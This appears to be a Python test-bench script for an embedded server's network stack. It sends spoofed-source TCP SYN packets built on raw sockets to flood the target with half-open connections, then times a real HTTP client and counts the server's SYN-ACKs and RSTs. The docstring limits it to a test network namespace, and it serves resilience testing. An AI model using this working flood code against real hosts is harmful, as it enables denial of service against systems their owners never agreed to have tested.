#!/usr/bin/env python3
"""A SYN flood of half-open connections against a server, then one real client (issue 15).

    python3 syn_flood.py CHIP_IP PORT [N] [SPOOF_NET] [TIMEOUT_S]
                                       (root: raw sockets; inside a test's network namespace only)

Sends N (200) SYNs from spoofed addresses SPOOF_NET.100-199 (a /24 prefix, default the chip's
own), two ports each, in bursts of 20. Nobody answers the server's SYN-ACKs to them (the
namespace does not forward), so each SYN leaves a half-open connection on the server until it
gives up on it or takes its place for a newer one. Then a real client connects and sends
`GET /`. Prints one JSON line: the real client's status and seconds (connect to last byte),
and what the server sent the spoofed addresses meanwhile (SYN-ACKs, RSTs), seen with a packet
socket on every interface of the namespace.
"""
import json
import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2]))
from tests.bench.attack import real_request  # noqa: E402


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_packet(src, dst, sport, dport, seq):
    """An IPv4 packet carrying a TCP SYN with an MSS option."""
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(opts) // 4) << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def watch(sniff, chip, spoofed, seen):
    """Count the server's SYN-ACKs and RSTs to the spoofed addresses read so far."""
    while True:
        try:
            pkt = sniff.recv(65536)
        except BlockingIOError:
            return
        if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != 6:
            continue
        if socket.inet_ntoa(pkt[12:16]) != chip or socket.inet_ntoa(pkt[16:20]) not in spoofed:
            continue
        flags = pkt[(pkt[0] & 15) * 4 + 13]
        if flags & 0x04:
            seen["rst"] += 1
        elif flags & 0x12 == 0x12:
            seen["synack"] += 1


def main():
    chip, port = sys.argv[1], int(sys.argv[2])
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 200
    net = sys.argv[4] if len(sys.argv) > 4 else chip.rsplit(".", 1)[0]
    # The real client's wall-clock timeout: 120 s for a board; an emulated chip on a loaded
    # machine runs hundreds of times slower than real time and needs more.
    timeout = float(sys.argv[5]) if len(sys.argv) > 5 else 120.0
    spoofed = ["%s.%d" % (net, 100 + i % 100) for i in range(n)]
    targets = set(spoofed)  # (what watch() looks for)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
    sniff.setblocking(False)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    seen = {"synack": 0, "rst": 0}
    t0 = time.monotonic()
    for i, src in enumerate(spoofed):
        raw.sendto(syn_packet(src, chip, 40000 + i, port, 1000 + i * 7919), (chip, 0))
        if i % 20 == 19:
            time.sleep(0.05)
            watch(sniff, chip, targets, seen)
    time.sleep(0.5)
    watch(sniff, chip, targets, seen)
    flood_s = time.monotonic() - t0
    status, took = real_request((chip, port), timeout)
    watch(sniff, chip, targets, seen)
    print(json.dumps({"syns": n, "flood_wall_s": round(flood_s, 2), "real_status": status,
                      "real_wall_s": round(took, 2), "synacks_to_spoofed": seen["synack"],
                      "rsts_to_spoofed": seen["rst"]}))


if __name__ == "__main__":
    main()
